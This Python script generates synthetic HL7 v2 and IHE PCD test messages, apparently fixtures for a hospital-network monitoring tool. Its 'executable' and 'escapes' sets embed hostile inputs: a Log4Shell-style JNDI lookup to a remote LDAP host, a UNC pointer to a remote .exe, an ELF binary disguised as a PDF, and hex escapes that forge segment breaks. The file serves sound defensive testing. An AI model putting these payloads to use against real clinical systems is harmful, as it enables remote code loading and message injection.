#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write the HL7 v2 messages the recordings send.  Usage: make_hl7.py FOLDER

NAME.hl7 holds messages with CR segment ends, one after the other; NAME.mllp
the same in MLLP blocks (what `mllp_send` reads).  Everything in them is
invented: patients, orders, devices, identifiers, doses."""
import base64
import os
import sys

out = sys.argv[1]
os.makedirs(out, exist_ok=True)
T0 = 1000


def stamp(s=0):
    m, s = divmod(T0 + s, 60)
    return "20240102%02d%02d%02d+0000" % (10 + m // 60, m % 60, s)


class M:
    """A message; seg("OBX", {1: "1", 2: "NM"}) adds a segment."""

    def __init__(self, typ, cid, app="WARDTAP_ADT", fac="WTH", to="WARDTAP_EHR", tofac="WTH",
                 ver="2.5.1", proc="P", accept="", appack="", charset="", profile="", t=0, delim="|^~\\&"):
        self.d = delim
        self.cid = cid
        self.s = []
        f = delim[0]
        msh = {3: app, 4: fac, 5: to, 6: tofac, 7: stamp(t), 9: typ, 10: cid, 11: proc, 12: ver}
        if accept:
            msh[15] = accept
        if appack:
            msh[16] = appack
        if charset:
            msh[18] = charset
        if profile:
            msh[21] = profile
        n = max(msh)
        self.s.append("MSH" + f + delim[1:] + f + f.join(self.tr(msh.get(i, "")) for i in range(3, n + 1)))

    def tr(self, v):
        """Our text uses ^ ~ & as separators; change them to this message's."""
        if self.d[1:5] == "^~\\&" or not v:
            return v
        return v.translate(str.maketrans("^~\\&", self.d[1:5]))

    def seg(self, name, fields):
        n = max(fields)
        self.s.append(name + self.d[0] + self.d[0].join(self.tr(str(fields.get(i, ""))) for i in range(1, n + 1)))
        return self

    def raw(self, s):
        self.s.append(s)
        return self

    def pid(self, n="000123", name="WARDTAP^TESTPATIENT^SYN"):
        return self.seg("PID", {1: 1, 3: "TEST%s^^^WTH^MR" % n, 5: name, 7: "19000101", 8: "O",
                                11: "1 TEST STREET^^TESTVILLE^TS^00000^XXX", 13: "^PRN^PH^^^555^0100"})

    def pv1(self, loc="TESTWARD^101^1^WTH"):
        return self.seg("PV1", {1: 1, 2: "I", 3: loc, 7: "9999^WARDTAP^TESTDOCTOR", 19: "VTEST0001"})

    def __str__(self):
        return "\r".join(self.s) + "\r"


def write(name, msgs, enc="utf-8"):
    data = [m if isinstance(m, bytes) else str(m).encode(enc) for m in msgs]
    with open(os.path.join(out, name + ".hl7"), "wb") as f:
        f.write(b"".join(data))
    with open(os.path.join(out, name + ".mllp"), "wb") as f:
        f.write(b"".join(b"\x0b" + d + b"\x1c\r" for d in data))


# --- plain HL7 -------------------------------------------------------------
def adt(ev, cid, struct="ADT_A01", **k):
    m = M("ADT^%s^%s" % (ev, struct), cid, **k)
    m.seg("EVN", {1: ev, 2: stamp(), 5: "TESTCLERK"})
    m.pid()
    if ev == "A40":
        m.seg("MRG", {1: "TEST000999^^^WTH^MR"})
    else:
        m.pv1()
    if ev == "A01":
        m.seg("NK1", {1: 1, 2: "WARDTAP^TESTKIN", 3: "SPO"})
        m.seg("AL1", {1: 1, 2: "DA", 3: "^SYNTHETIC ALLERGEN", 4: "MI"})
    return m


def oru(cid, n=3, **k):
    k.setdefault("app", "WARDTAP_LAB")
    m = M("ORU^R01^ORU_R01", cid, **k)
    m.pid().pv1()
    m.seg("ORC", {1: "RE", 2: "TESTORD%s" % cid, 3: "TESTFIL%s" % cid})
    m.seg("OBR", {1: 1, 2: "TESTORD%s" % cid, 3: "TESTFIL%s" % cid, 4: "24323-8^SYNTHETIC PANEL^LN", 7: stamp(), 25: "F"})
    for i in range(n):
        m.seg("OBX", {1: i + 1, 2: "NM", 3: "%d-1^SYNTHETIC ANALYTE %d^LN" % (1000 + i, i + 1), 5: 10 + i,
                      6: "mmol/L", 7: "1-99", 8: "N", 11: "F", 14: stamp(),
                      18: "SYN-LAB-%03d^SynthAnalyzer 500^wardtap.example^DNS" % 7})
    return m


write("adt-oru", [adt("A01", "ADT00001"), adt("A08", "ADT00002"), oru("ORU00001"), oru("ORU00002", 12),
                  adt("A03", "ADT00003", "ADT_A03")])
write("adt", [adt("A01", "ADT10001"), adt("A31", "ADT10002", "ADT_A05"), adt("A40", "ADT10003", "ADT_A39"),
              adt("A04", "ADT10004"), adt("A02", "ADT10005", "ADT_A02"), adt("A08", "ADT10006")])


def orm(cid):
    return (M("ORM^O01^ORM_O01", cid, app="WARDTAP_CPOE", to="WARDTAP_RIS").pid().pv1()
            .seg("ORC", {1: "NW", 2: "TESTORD" + cid, 9: stamp(), 12: "9999^WARDTAP^TESTDOCTOR"})
            .seg("OBR", {1: 1, 2: "TESTORD" + cid, 4: "TESTCT^SYNTHETIC CT^L", 5: "R", 16: "9999^WARDTAP^TESTDOCTOR", 24: "CT"}))


def oml(cid):
    return (M("OML^O21^OML_O21", cid, app="WARDTAP_CPOE", to="WARDTAP_LAB").pid().pv1()
            .seg("ORC", {1: "NW", 2: "TESTORD" + cid, 9: stamp()})
            .seg("TQ1", {1: 1, 9: "R^Routine"})
            .seg("OBR", {1: 1, 2: "TESTORD" + cid, 4: "24323-8^SYNTHETIC PANEL^LN"})
            .seg("SPM", {1: 1, 2: "TESTSPEC1", 4: "BLD^Synthetic blood"}))


def rde(cid):
    return (M("RDE^O11^RDE_O11", cid, app="WARDTAP_PHARM", to="WARDTAP_BCMA").pid().pv1()
            .seg("ORC", {1: "NW", 2: "TESTRX" + cid})
            .seg("RXE", {1: "^^^20240102^^R", 2: "TESTDRUG1^SYNTHETIC SALINE^L", 3: 1000, 5: "mL", 6: "SOLN", 23: 100, 24: "mL/h"})
            .seg("RXR", {1: "IV^Intravenous", 3: "IVP^Pump"}))


def siu(cid):
    return (M("SIU^S12^SIU_S12", cid, app="WARDTAP_SCHED", to="WARDTAP_RIS")
            .seg("SCH", {1: "TESTAPPT1", 6: "TEST^Synthetic appointment", 11: "^^30^20240103080000^20240103083000", 25: "Booked"})
            .pid().pv1().seg("RGS", {1: 1, 2: "A"}).seg("AIL", {1: 1, 2: "A", 3: "TESTROOM^1"}))


def mdm(cid):
    return (M("MDM^T02^MDM_T02", cid, app="WARDTAP_DOC").seg("EVN", {1: "T02", 2: stamp()}).pid().pv1()
            .seg("TXA", {1: 1, 2: "DS", 3: "TX", 4: stamp(), 12: "TESTDOC1", 17: "AU"})
            .seg("OBX", {1: 1, 2: "TX", 3: "18842-5^SYNTHETIC SUMMARY^LN", 5: "This text is synthetic.\\.br\\Nothing in it is real.", 11: "F"}))


def qbp(cid):
    return (M("QBP^Q22^QBP_Q21", cid, app="WARDTAP_PDC", to="WARDTAP_PDS")
            .seg("QPD", {1: "IHE PDQ Query^^IHEDEMO", 2: "QRY" + cid, 3: "@PID.5.1.1^WARDTAP~@PID.8^O"})
            .seg("RCP", {1: "I", 2: "10^RD"}))


write("orders", [orm("ORM00001"), oml("OML00001"), rde("RDE00001"), siu("SIU00001"), mdm("MDM00001")])
write("query", [qbp("QBP00001"), qbp("QBP00002")])
write("nak", [adt("A01", "NAK00001"), adt("A08", "NAK00002"), adt("A03", "NAK00003", "ADT_A03"), oru("NAK00004", 1),
              orm("NAK00005"), siu("NAK00006"), mdm("NAK00007"), M("ZZZ^Z99", "NAK00008").seg("ZZZ", {1: "x"}),
              adt("A40", "NAK00009", "ADT_A39")])
write("enhanced", [adt("A01", "ENH00001", accept="AL", appack="AL"), oru("ENH00002", 2, accept="AL", appack="NE"),
                   adt("A08", "ENH00003", accept="AL", appack="AL"), orm("ENH00004x").raw("ZZZ|1"),
                   adt("A03", "ENH00005", "ADT_A03", accept="ER", appack="ER")])
write("processing", [adt("A01", "PRC00001", proc="D"), adt("A01", "PRC00002", proc="T"), oru("PRC00003", 1, ver="2.3"),
                     M("ORU^R01", "PRC00004", app="OLDDEV", ver="2.2").pid().seg("OBR", {1: 1, 4: "X^Y"}).seg("OBX", {1: 1, 2: "ST", 3: "A^B", 5: "C", 11: "F"}),
                     adt("A01", "PRC00005", ver="2.8")])
write("sft",
      [M("ORU^R01^ORU_R01", "SFT00001", app="WARDTAP_MON", ver="2.6")
       .seg("SFT", {1: "WARDTAP Synthetic Systems^L", 2: "7.4.2", 3: "SynthMonitor Gateway", 4: "7.4.2-build1234", 6: "20231201"})
       .pid().seg("OBR", {1: 1, 4: "TEST^SYNTHETIC^L"}).seg("OBX", {1: 1, 2: "NM", 3: "8867-4^Heart rate^LN", 5: 72, 6: "/min", 11: "F"}),
       M("ADT^A01^ADT_A01", "SFT00002", ver="2.6")
       .seg("SFT", {1: "WARDTAP Fictive EHR Vendor", 2: "2024.1", 3: "FictiveEHR", 4: "2024.1.0.77"})
       .seg("SFT", {1: "WARDTAP Fictive Engine", 2: "4.5.2", 3: "FictiveConnect", 4: "b3024"})
       .seg("EVN", {1: "A01", 2: stamp()}).pid().pv1()])


def batch(n, fhs=True, wrong=False):
    body = "".join(str(oru("BAT%05d" % i, 1)) for i in range(1, n + 1))
    s = "BHS|^~\\&|WARDTAP_LAB|WTH|WARDTAP_EHR|WTH|%s||SYNBATCH|||TESTB001\r%sBTS|%d\r" % (stamp(), body, n + wrong)
    if fhs:
        s = "FHS|^~\\&|WARDTAP_LAB|WTH|WARDTAP_EHR|WTH|%s||SYNFILE|||TESTF001\r%sFTS|1\r" % (stamp(), s)
    return s


write("batch", [batch(3), batch(2, fhs=False), batch(3, wrong=True)])

write("delims", [
    M("ORU^R01^ORU_R01", "DEL00001", delim="#*!%$", app="ODDDELIM").pid().seg("OBR", {1: 1, 4: "A^B"}).seg("OBX", {1: 1, 2: "NM", 3: "X^Y", 5: 1, 11: "F"}),
    M("ADT^A01^ADT_A01", "DEL00002", delim="|^~\\&#", ver="2.7").pid().pv1(),
    M("ADT^A01^ADT_A01", "DEL00003", delim="|@~\\&").pid().pv1(),
    M("ADT^A08^ADT_A01", "DEL00004", delim="|^~\\$").pid("000124", "WARDTAP^TEST\\$\\AMPERSAND").pv1(),
])
write("escapes", [
    M("ORU^R01^ORU_R01", "ESC00001", app="WARDTAP_LAB").pid().seg("OBR", {1: 1, 4: "A^B"})
    .seg("OBX", {1: 1, 2: "TX", 3: "ESC^Escapes", 5: "bar \\F\\ hat \\S\\ amp \\T\\ tilde \\R\\ slash \\E\\ end", 11: "F"})
    .seg("OBX", {1: 2, 2: "FT", 3: "ESC^Format", 5: "\\H\\bold\\N\\ \\.br\\\\.sp2\\\\.in+4\\text", 11: "F"})
    .seg("OBX", {1: 3, 2: "TX", 3: "ESC^Hex", 5: "\\X48454C4C4F\\ \\Zlocal\\", 11: "F"})
    .seg("OBX", {1: 4, 2: "TX", 3: "ESC^Charset", 5: "\\C2842\\ \\M24B3\\", 11: "F"}),
    M("ORU^R01^ORU_R01", "ESC00002", app="WARDTAP_LAB").pid().seg("OBR", {1: 1, 4: "A^B"})
    .seg("OBX", {1: 1, 2: "TX", 3: "BAD^Hex that ends a segment", 5: "\\X0D\\MSH\\X1C0D\\\\X0B\\", 11: "F"})
    .seg("OBX", {1: 2, 2: "TX", 3: "BAD^Unterminated", 5: "open \\Xabc", 11: "F"})
    .seg("OBX", {1: 3, 2: "FT", 3: "BAD^Much space", 5: "\\.sp9999\\", 11: "F"}),
])
write("charset-latin1", [M("ADT^A01^ADT_A01", "CHL00001", charset="8859/1").pid("000125", "WARDT\u00c4P^T\u00c9STP\u00c4TIENT").pv1()], "latin-1")
write("charset-utf8", [M("ADT^A01^ADT_A01", "CHU00001", charset="UNICODE UTF-8").pid("000126", "WARDTAP\u30c6\u30b9\u30c8^\u0422\u0435\u0441\u0442").pv1()])
write("charset-ir87", [str(M("ADT^A01^ADT_A01", "CHJ00001", charset="~ISO IR87").pid("000127", "WARDTAP^TEST^^^^^L^A~@@^@@^^^^^L^I").pv1())
                       .encode("ascii").replace(b"@@^@@", "\u8a66\u9a13".encode("iso2022_jp") + b"^" + "\u60a3\u8005".encode("iso2022_jp"))])

PDF = b"%PDF-1.4 synthetic\n" + b"This document is synthetic test data. " * 7900
write("large", [M("MDM^T02^MDM_T02", "BIG00001", app="WARDTAP_DOC").pid()
                .seg("TXA", {1: 1, 2: "DS", 12: "TESTDOC2"})
                .seg("OBX", {1: 1, 2: "ED", 3: "PDF^Synthetic^L", 5: "WARDTAP^AP^PDF^Base64^" + base64.b64encode(PDF).decode(), 11: "F"})])
write("executable", [M("MDM^T02^MDM_T02", "EXE00001", app="WARDTAP_DOC").pid().seg("TXA", {1: 1, 2: "DS", 12: "TESTDOC3"})
                     .seg("OBX", {1: 1, 2: "ED", 3: "PDF^Synthetic^L", 5: "WARDTAP^AP^PDF^Base64^" + base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(57)).decode(), 11: "F"}),
                     M("ORU^R01^ORU_R01", "EXE00002", app="WARDTAP_DOC").pid().seg("OBR", {1: 1, 4: "A^B"})
                     .seg("OBX", {1: 1, 2: "RP", 3: "IMG^Pointer", 5: "\\\\E\\\\10.77.0.99\\\\E\\share\\\\E\\x.exe^WARDTAP^AP", 11: "F"})
                     .seg("OBX", {1: 2, 2: "ST", 3: "INJ^Injection", 5: "${jndi:ldap://10.77.0.99/a}", 11: "F"})])
write("many", [oru("MNY%05d" % i, 2) for i in range(60)])
write("burst", [adt("A08", "BST%05d" % i) for i in range(8)])
write("slow", [oru("SLO00001", 3)])
write("v6", [adt("A01", "IP600001"), oru("IP600002", 2)])
write("conn-a", [adt("A01", "CNA%05d" % i) for i in range(6)])
write("conn-b", [oru("CNB%05d" % i, 2) for i in range(6)])
write("replay", [adt("A01", "RPL00001"), adt("A01", "RPL00001"), adt("A08", "RPL00001")])
write("r2", [adt("A01", "R2M00001"), oru("R2M00002", 1), adt("A08", "R2M00003"), adt("A03", "R2M00004", "ADT_A03")])

# --- IHE PCD ---------------------------------------------------------------
PROF = {
    "01": "IHE_PCD_001^IHE PCD^1.3.6.1.4.1.19376.1.6.1.1.1^ISO",
    "03": "IHE_PCD_003^IHE PCD^1.3.6.1.4.1.19376.1.6.1.3.1^ISO",
    "03r": "IHE_PCD_003^IHE PCD^1.3.6.1.4.1.19376.1.6.1.3.2^ISO",
    "04": "IHE_PCD_004^IHE PCD^1.3.6.1.4.1.19376.1.6.1.4.1^ISO",
    "05": "IHE_PCD_005^IHE PCD^1.3.6.1.4.1.19376.1.6.1.5.1^ISO",
    "10": "IHE_PCD_010^IHE PCD^1.3.6.1.4.1.19376.1.6.4.10^ISO",
}
EUI = "025754FFFE000101"
EI = {   # the four conventions of OBX-18
    "a": "%s^^%s^EUI-64" % (EUI, EUI),
    "b": "SYN-PMP-000101^SynthPump LVP-3^wardtap.example^DNS",
    "c": "^^SYN-PMP-000102^WARDTAP Infusion",
    "d": "6f6e1a52-0b7c-4a5e-9a43-5d1d7a0c0de1",
}
U = {"mL/h": "265266^MDC_DIM_MILLI_L_PER_HR^MDC^mL/h^mL/h^UCUM", "mL": "263762^MDC_DIM_MILLI_L^MDC^mL^mL^UCUM",
     "min": "264352^MDC_DIM_MIN^MDC^min^min^UCUM", "kg": "263875^MDC_DIM_KILO_G^MDC^kg^kg^UCUM",
     "mg/mL": "264306^MDC_DIM_MILLI_G_PER_ML^MDC^mg/mL^mg/mL^UCUM", "ug/kg/min": "265619^MDC_DIM_MICRO_G_PER_KG_PER_MIN^MDC^ug/kg/min^ug/kg/min^UCUM",
     "bpm": "264864^MDC_DIM_BEAT_PER_MIN^MDC", "%": "262688^MDC_DIM_PERCENT^MDC", "mmHg": "266016^MDC_DIM_MMHG^MDC", "": ""}


class P(M):
    def obx(self, typ, code, sub, val, unit="", ei=None, status="R", t=None, **extra):
        self.n = getattr(self, "n", 0) + 1
        f = {1: self.n, 2: typ, 3: code + "^MDC", 4: sub, 5: val, 6: U.get(unit, unit), 11: status}
        if t is not None:
            f[14] = stamp(t)
        if ei:
            f[18] = ei
        f.update({int(k[1:]): v for k, v in extra.items()})
        return self.seg("OBX", f)


def pcd(typ, cid, prof, app="WARDTAP_PUMPGW^025754FFFE000001^EUI-64", to="WARDTAP_CDR^025754FFFE0000C1^EUI-64", t=0, accept="AL", appack="NE"):
    return P(typ, cid, app=app, to=to, ver="2.6", accept=accept, appack=appack, profile=PROF[prof], t=t)


def pump(cid, conv, rate, t=0, serial=None):
    ei = EI[conv] if serial is None else serial
    m = pcd("ORU^R01^ORU_R01", cid, "01", t=t)
    m.pid().pv1("TESTICU^201^1^WTH")
    m.seg("OBR", {1: 1, 2: "TESTORD1^WARDTAP_CPOE", 3: cid + "^WARDTAP_PUMPGW^025754FFFE000001^EUI-64", 4: "69985^MDC_DEV_PUMP_INFUS_MDS^MDC", 7: stamp(t), 8: stamp(t)})
    m.obx("", "69985^MDC_DEV_PUMP_INFUS_MDS", "1.0.0.0", "", ei=ei, t=t, status="X")
    m.obx("ST", "67880^MDC_ATTR_ID_MODEL", "1.0.0.1", "WARDTAP Infusion^SynthPump LVP-3")
    m.obx("ST", "67972^MDC_ATTR_SYS_ID", "1.0.0.2", EUI)
    m.obx("ST", "67885^MDC_ATTR_ID_PROD_SPECN", "1.0.0.3", "SW 9.1.3~SERIAL SYN-PMP-000101~HW C")
    m.obx("ST", "67886^MDC_ATTR_ID_SOFT", "1.0.0.4", "ASSET-TEST-77")
    m.obx("", "69986^MDC_DEV_PUMP_INFUS_VMD", "1.1.0.0", "", status="X")
    m.obx("CWE", "184508^MDC_PUMP_STAT", "1.1.0.1", "^pump-status-infusing")
    m.obx("CWE", "184504^MDC_PUMP_MODE", "1.1.0.2", "^pump-mode-continuous")
    m.obx("ST", "184517^MDC_PUMP_DRUG_LIBRARY_VERSION", "1.1.0.3", "SYN-LIB-2024-01")
    m.obx("ST", "184516^MDC_PUMP_DRUG_LIBRARY_CARE_AREA", "1.1.0.4", "TESTICU")
    m.obx("", "126978^MDC_DEV_PUMP_DELIVERY_CHAN", "1.1.1.0", "", status="X")
    m.obx("NM", "157784^MDC_FLOW_FLUID_PUMP", "1.1.1.1", rate, "mL/h", t=t)
    m.obx("NM", "157884^MDC_VOL_FLUID_TBI", "1.1.1.2", 250, "mL", t=t)
    m.obx("NM", "157872^MDC_VOL_FLUID_TBI_REMAIN", "1.1.1.3", 200 - t // 60, "mL", t=t)
    m.obx("NM", "157864^MDC_VOL_FLUID_DELIV", "1.1.1.4", 50 + t // 60, "mL", t=t)
    m.obx("NM", "157916^MDC_TIME_PD_REMAIN", "1.1.1.5", 96, "min", t=t)
    m.obx("CWE", "184519^MDC_PUMP_INFUSING_STATUS", "1.1.1.6", "^pump-infusing", t=t)
    m.obx("", "126977^MDC_DEV_PUMP_SOURCE_CHAN", "1.1.2.0", "", status="X")
    m.obx("ST", "184514^MDC_DRUG_NAME_LABEL", "1.1.2.1", "SYNTHETIC SALINE")
    m.obx("NM", "157760^MDC_CONC_DRUG", "1.1.2.2", 4, "mg/mL", t=t)
    m.obx("NM", "157924^MDC_RATE_DOSE", "1.1.2.3", "5.0", "ug/kg/min", t=t)
    m.obx("NM", "68063^MDC_ATTR_PT_WEIGHT", "1.1.2.4", 70, "kg")
    return m


write("pcd01-pump", [pump("PGW000001", "a", 125, 0), pump("PGW000002", "b", 125, 60), pump("PGW000003", "c", 130, 120),
                     pump("PGW000004", "d", 130, 180), pump("PGW000005", "a", 130, 240)])


def monitor(cid, hr, t=0):
    m = pcd("ORU^R01^ORU_R01", cid, "01", app="WARDTAP_MONGW^025754FFFE000002^EUI-64", t=t)
    m.pid().pv1("TESTICU^202^1^WTH")
    ei = "025754FFFE000202^^025754FFFE000202^EUI-64"
    m.seg("OBR", {1: 1, 3: cid, 4: "69965^MDC_DEV_MON_PHYSIO_MULTI_PARAM_MDS^MDC", 7: stamp(t)})
    m.obx("", "69965^MDC_DEV_MON_PHYSIO_MULTI_PARAM_MDS", "1.0.0.0", "", ei=ei, status="X", t=t)
    m.obx("ST", "67880^MDC_ATTR_ID_MODEL", "1.0.0.1", "WARDTAP Monitoring^SynthMon M8")
    m.obx("ST", "67870^MDC_ATTR_ID_BED_LABEL", "1.0.0.2", "TESTICU-202")
    m.obx("ST", "531969^MDC_ID_MODEL_NUMBER", "1.0.0.3", "SM8-2024")
    m.obx("ST", "531970^MDC_ID_MODEL_MANUFACTURER", "1.0.0.4", "WARDTAP Monitoring")
    m.obx("ST", "531972^MDC_ID_PROD_SPEC_SERIAL", "1.0.0.5", "SYN-MON-000202")
    m.obx("ST", "531974^MDC_ID_PROD_SPEC_HW", "1.0.0.6", "H2")
    m.obx("ST", "531975^MDC_ID_PROD_SPEC_SW", "1.0.0.7", "12.04")
    m.obx("ST", "531976^MDC_ID_PROD_SPEC_FW", "1.0.0.8", "F3.3")
    m.obx("NM", "147842^MDC_ECG_HEART_RATE", "1.7.4.147842", hr, "bpm", t=t)
    m.obx("NM", "150456^MDC_PULS_OXIM_SAT_O2", "1.3.1.150456", 98, "%", t=t)
    m.obx("NM", "150021^MDC_PRESS_BLD_NONINV_SYS", "1.10.1.150021", 120, "mmHg", t=t)
    m.obx("NM", "150022^MDC_PRESS_BLD_NONINV_DIA", "1.10.1.150022", 80, "mmHg", t=t)
    return m


write("pcd01-monitor", [monitor("MGW%06d" % i, 70 + i, 60 * i) for i in range(1, 7)])


def udi(cid, kind):
    m = pcd("ORU^R01^ORU_R01", cid, "01")
    m.pid()
    m.seg("OBR", {1: 1, 3: cid, 4: "69985^MDC_DEV_PUMP_INFUS_MDS^MDC", 7: stamp()})
    ref = "2.16.840.1.113883.3.3719^ISO"
    if kind == "gs1":
        hrf, di = "(01)00614141999996(11)230901(17)280901(10)SYNLOT7(21)SYN-PMP-000101", "00614141999996^GS1^2.51.1.1^ISO"
    elif kind == "hibcc":
        hrf, di = "+H123SYNTEST1/$$3280901SYNLOT7/SSYN-PMP-000103/16D20230901C", "+H123SYNTEST1^HIBCC^1.0.15961.10.816^ISO"
    elif kind == "iccbba":
        hrf, di = "=/A9999XYZ100T0944=,000025=A99971312345600=>014032=}013032\\T\\,1000000000000XYZ123", "A9999XYZ100T0944^ICCBBA^2.16.840.1.113883.6.18.1.17^ISO"
    m.seg("PRT", {1: "", 2: "UC", 4: "EQUIP^Equipment^HL70912", 10: hrf + "^^" + ref, 16: di, 17: "20230901", 18: "20280901",
                  19: "SYNLOT7", 20: "SYN-PMP-000101" if kind == "gs1" else "SYN-PMP-000103"})
    m.obx("", "69985^MDC_DEV_PUMP_INFUS_MDS", "1.0.0.0", "", ei=EI["b"], status="X")
    m.obx("NM", "157784^MDC_FLOW_FLUID_PUMP", "1.1.1.1", 20, "mL/h")
    return m


write("pcd01-udi", [udi("UDI000001", "gs1"), udi("UDI000002", "hibcc"), udi("UDI000003", "iccbba")])


def rgv(cid, ctl="RE", rate="100", pumpid="SYN-PMP-000101", t=0):
    m = pcd("RGV^O15^RGV_O15", cid, "03", app="WARDTAP_BCMA^025754FFFE0000B1^EUI-64", to="WARDTAP_PUMPGW^025754FFFE000001^EUI-64", t=t, accept="AL", appack="AL")
    m.pid().pv1("TESTICU^201^1^WTH")
    m.seg("ORC", {1: ctl, 2: "TESTRX%s^WARDTAP_BCMA" % cid, 19: "TESTNURSE7^WARDTAP^TESTNURSE"})
    m.seg("RXG", {1: 1, 3: "", 4: "TESTDRUG1^SYNTHETIC DRUG A", 5: 250, 7: U["mL"], 15: rate, 16: U["mL/h"], 17: 400, 18: "263890^MDC_DIM_MILLI_G^MDC^mg^mg^UCUM",
                  23: 250, 24: U["mL"]})
    m.seg("TQ1", {1: 1, 13: "150^min"})
    m.seg("RXR", {1: "IV^Intravenous^HL70162", 3: "IVP^IV Pump^HL70164", 4: "IV^Infusion^HL70165"})
    m.n = 0
    m.obx("", "69986^MDC_DEV_PUMP_INFUS_VMD", "0", "", ei="^^%s^WARDTAP Infusion" % pumpid)
    m.obx("NM", "68063^MDC_ATTR_PT_WEIGHT", "0", 70, "kg")
    return m


def rrg(cid, ref, t=0):
    m = pcd("RRG^O16^RRG_O16", cid, "03r", app="WARDTAP_PUMPGW^025754FFFE000001^EUI-64", to="WARDTAP_BCMA^025754FFFE0000B1^EUI-64", t=t, accept="AL", appack="NE")
    m.seg("MSA", {1: "AA", 2: ref})
    m.seg("ORC", {1: "OK", 2: "TESTRX%s^WARDTAP_BCMA" % ref})
    return m


write("pcd03-rgv", [rgv("BCM000001"), rgv("BCM000002", "XO", "130", t=60), rgv("BCM000003", "CH", "9999", t=90)])
write("pcd03-rrg", [rrg("PRG000001", "BCM000001"), rrg("PRG000002", "BCM000002", 60)])


def alarm(cid, phase, state, inact, t=0, evt="196670^MDC_EVT_LO", src="150456^MDC_PULS_OXIM_SAT_O2", prio="PM", app="WARDTAP_MONGW^025754FFFE000002^EUI-64"):
    m = pcd("ORU^R40^ORU_R40", cid, "04", app=app, to="WARDTAP_ALMGR^025754FFFE0000A1^EUI-64", t=t)
    m.pid().pv1("TESTICU^202^1^WTH")
    m.seg("OBR", {1: 1, 3: cid, 4: "196616^MDC_EVT_ALARM^MDC", 7: stamp(t), 28: "", 29: "SYNALARM1^WARDTAP_MONGW"})
    ei = "025754FFFE000202^^025754FFFE000202^EUI-64"
    m.obx("CWE", "196616^MDC_EVT_ALARM", "1.3.1.150456.1", evt + "^MDC", ei=ei, t=t)
    m.obx("CWE", "68480^MDC_ATTR_ALERT_SOURCE", "1.3.1.150456.2", src + "^MDC")
    m.obx("ST", "68481^MDC_ATTR_EVENT_PHASE", "1.3.1.150456.3", phase)
    m.obx("ST", "68482^MDC_ATTR_ALARM_STATE", "1.3.1.150456.4", state)
    m.obx("ST", "68483^MDC_ATTR_ALARM_INACTIVATION_STATE", "1.3.1.150456.5", inact)
    m.obx("ST", "68484^MDC_ATTR_ALARM_PRIORITY", "1.3.1.150456.6", prio)
    m.obx("ST", "68485^MDC_ATTR_ALERT_TYPE", "1.3.1.150456.7", "SP")
    return m


write("pcd04-alarm", [alarm("ALM000001", "start", "active", "enabled", 0), alarm("ALM000002", "continue", "active", "audio-paused", 20),
                      alarm("ALM000003", "end", "inactive", "enabled", 40),
                      alarm("ALM000004", "start", "active", "audio-off", 60, evt="196940^MDC_EVT_FLUID_LINE_OCCL", src="126978^MDC_DEV_PUMP_DELIVERY_CHAN", prio="PH", app="WARDTAP_PUMPGW^025754FFFE000001^EUI-64"),
                      alarm("ALM000005", "end", "inactive", "alarm-off", 80, evt="196940^MDC_EVT_FLUID_LINE_OCCL", src="126978^MDC_DEV_PUMP_DELIVERY_CHAN", prio="PH", app="WARDTAP_PUMPGW^025754FFFE000001^EUI-64")])


def ora(cid, t=0, typ="ORA^R41^ORA_R41"):
    m = pcd(typ, cid, "05", app="WARDTAP_ALMGR^025754FFFE0000A1^EUI-64", to="WARDTAP_MONGW^025754FFFE000002^EUI-64", t=t)
    m.seg("MSA", {1: "AA", 2: "ALM000001"})
    m.seg("PRT", {2: "UC", 4: "RCT^Result Copies To^HL70443", 5: "TESTNURSE7^WARDTAP^TESTNURSE", 14: stamp(t), 15: "^^^^^^^^^^^Read"})
    return m


write("pcd05-ora", [ora("ORA000001", 5), ora("ORA000002", 25, "ORU^R41^ORA_R41")])


def ipec(cid, evt, t=0):
    m = pcd("ORU^R42^ORU_R01", cid, "10", t=t)
    m.pid().pv1("TESTICU^201^1^WTH")
    m.seg("OBR", {1: 1, 3: cid, 4: evt.split("^")[0] + "^" + evt.split("^")[1] + "^MDC", 7: stamp(t)})
    m.obx("CWE", "68487^MDC_ATTR_EVT_COND", "1.0.0.1", evt, ei=EI["a"], t=t)
    m.obx("CWE", "68488^MDC_ATTR_EVT_SOURCE", "1.0.0.2", "69985^MDC_DEV_PUMP_INFUS_MDS^MDC")
    m.obx("NM", "157784^MDC_FLOW_FLUID_PUMP", "1.1.1.1", 125, "mL/h", t=t)
    return m


write("pcd10-ipec", [ipec("EVT000001", "197288^MDC_EVT_PUMP_DELIV_START^MDC"), ipec("EVT000002", "0^MDC_EVT_COMM_STATUS_CHANGE^MDC", 30),
                     ipec("EVT000003", "0^MDC_EVT_PATIENT_ID_CHANGE^MDC", 60), ipec("EVT000004", "0^MDC_EVT_PUMP_DELIV_STOP^MDC", 90)])

# --- not quite MLLP --------------------------------------------------------
lf = [adt("A01", "LFS00001"), oru("LFS00002", 2)]
for name, end in (("lf", b"\n"), ("crlf", b"\r\n")):
    with open(os.path.join(out, name + ".mllp"), "wb") as f:
        for m in lf:
            f.write(b"\x0b" + str(m).encode().replace(b"\r", end) + b"\x1c\r")
with open(os.path.join(out, "raw.txt"), "wb") as f:
    for m in (adt("A01", "RAW00001"), oru("RAW00002", 2)):
        f.write(str(m).encode())
